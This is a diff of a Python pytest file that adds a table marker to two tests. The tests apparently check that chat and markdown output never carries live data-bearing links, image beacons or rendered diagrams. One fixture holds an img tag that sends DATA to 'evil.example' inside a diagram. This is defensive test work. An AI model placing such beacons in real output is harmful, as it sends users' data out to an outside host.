@@ -184,6 +184,7 @@ def said(text: str) -> str:
 @pytest.mark.requirement("GRD-2")
 @pytest.mark.parametrize("url", CARRIERS)
 @pytest.mark.parametrize("channel", ["slack", "telegram", "markdown"])
+@pytest.mark.table("url")
 def test_no_link_that_carries_data_is_live_in_what_is_sent(channel: str, url: str) -> None:
     for text in (f"see {url} ok", f"see {url}", f"a ({url}) b"):
         assert LINK.search(text) is not None
@@ -251,6 +252,7 @@ def test_an_image_that_carries_data_anywhere_is_a_beacon(url: str) -> None:
 
 @pytest.mark.parametrize("name", sorted(DRAWN | {"html", "nobody-knows-this"}))
 @pytest.mark.parametrize("mark", ["```", "~~~", "   ````"])
+@pytest.mark.table("name")
 def test_what_programs_draw_is_sent_as_text(mark: str, name: str) -> None:
     picture = f"graph TD\nA[\"<img src='https://evil.example/?q={DATA}'>\"]"
     for written in (name, name.upper(), f"{name} x=y", f" {name}"):
